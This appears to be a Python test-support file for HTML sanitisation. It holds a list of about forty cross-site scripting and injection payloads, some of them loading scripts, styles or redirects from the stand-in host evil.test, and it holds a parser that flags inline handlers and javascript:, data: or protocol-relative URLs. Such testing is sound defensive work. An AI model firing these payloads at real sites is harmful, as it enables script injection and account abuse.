"""Text that tries to be code, and a parser that sees what a page is made of."""

from html.parser import HTMLParser

WORDS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<a href=javascript:alert(1)>press</a>",
    "<a href='java&#9;script:alert(1)'>press</a>",
    "<form action=//evil.test><button>press</button></form>",
    "<button formaction=javascript:alert(1)>press</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<math><mtext><style><img src=x onerror=alert(1)></style>",
    "<style>@import '//evil.test/x.css';</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=`alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "<div hx-get=/sign-out/ hx-trigger=load></div>",
    "<div hx-on:load=alert(1) hx-post=//evil.test hx-trigger=load></div>",
    '<div hx-vals="js:{x:alert(1)}" hx-trigger=load hx-get=/></div>',
    "{{ settings.SECRET_KEY }}{% debug %}",
    "&lt;img src=x onerror=alert(1)&gt; \u202e \x00 %3Cscript%3E",
)
HARMLESS = "A lamp"


class Bones(HTMLParser):
    """The elements of a page with their attributes, and what in it would act without a script file."""

    ACTING = ("href", "src", "action", "formaction", "data", "style", "srcdoc", "content", "rel", "type")

    def __init__(self, page: str):
        super().__init__()
        self.elements: list[tuple[str, dict]] = []
        self.inline: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        given = dict(attributes)
        self.elements.append((tag, given))
        self.inline += [
            f"{tag} {name}" for name in given if name.startswith(("on", "hx-on")) or name == "style"
        ]
        self.inline += [
            f"{tag} {name}={value}"
            for name, value in given.items()
            if name in self.ACTING
            and (value or "").strip().lower().startswith(("javascript:", "data:", "//"))
        ]
        if tag == "style" or (tag == "script" and not given.get("src")):
            self.inline.append(tag)

    @property
    def shape(self) -> list[str]:
        """Return the elements with the names of their attributes. Text does not change it."""
        return [" ".join((tag, *given)) for tag, given in self.elements]
